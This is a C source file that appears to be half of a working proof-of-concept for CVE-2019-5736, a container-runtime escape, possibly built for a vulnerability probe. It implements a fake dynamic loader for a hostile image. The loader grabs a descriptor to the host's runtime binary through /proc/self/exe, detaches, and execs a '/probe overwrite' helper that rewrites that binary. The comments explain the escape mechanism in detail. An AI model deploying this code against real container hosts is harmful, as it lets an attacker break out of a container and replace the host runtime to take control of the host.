/* CVE-2019-5736, first half: a hostile image's /lib64/ld-linux-x86-64.so.2. When the container
 * runs a file starting with `#!/proc/self/exe`, the kernel executes the runtime binary itself
 * (the process is still the runtime at that moment), and because the runtime is a dynamically
 * linked program, the loader comes from the container's rootfs: this code then runs inside a
 * process whose /proc/self/exe is the host's runtime binary. It opens that binary read-only
 * and hands the fd to `/probe overwrite 3`, which writes to it once the runtime processes
 * are gone (the original exploit did the same from a hostile libseccomp).
 *
 * As pid 1 (the image's entrypoint) it becomes the writer itself; as an exec'd process it forks
 * one, so that `runtime exec` sees its process exit and stops running the binary.
 *
 * Built with -nostdlib -static (no libc: it runs as the loader of another program). */
typedef long i64;

static i64 sys(i64 n, i64 a, i64 b, i64 c) {
    i64 r;
    __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return r;
}

#define SYS_write 1
#define SYS_open 2
#define SYS_close 3
#define SYS_dup2 33
#define SYS_getpid 39
#define SYS_fork 57
#define SYS_execve 59
#define SYS_exit_group 231
#define SYS_setsid 112

static void say(const char *s) {
    i64 n = 0;
    while (s[n])
        n++;
    sys(SYS_write, 2, (i64)s, n);
}

void payload(i64 *sp) {
    (void)sp;
    i64 fd = sys(SYS_open, (i64) "/proc/self/exe", 0 /* O_RDONLY */, 0);
    if (fd < 0) {
        say("fake-ld: cannot open /proc/self/exe\n");
        sys(SYS_exit_group, 41, 0, 0);
    }
    if (fd != 3) {
        sys(SYS_dup2, fd, 3, 0);
        sys(SYS_close, fd, 0, 0);
    }
    char *argv[] = {"/probe", "overwrite", "3", 0};
    char *envp[] = {"PATH=/bin", 0};
    if (sys(SYS_getpid, 0, 0, 0) != 1) {
        i64 pid = sys(SYS_fork, 0, 0, 0);
        if (pid != 0)
            sys(SYS_exit_group, 0, 0, 0);
        sys(SYS_setsid, 0, 0, 0);
    }
    sys(SYS_execve, (i64) "/probe", (i64)argv, (i64)envp);
    say("fake-ld: execve /probe failed\n");
    sys(SYS_exit_group, 42, 0, 0);
}

__asm__(".globl _start\n"
        "_start:\n"
        "  xor %rbp, %rbp\n"
        "  mov %rsp, %rdi\n"
        "  and $-16, %rsp\n"
        "  call payload\n"
        "  hlt\n");
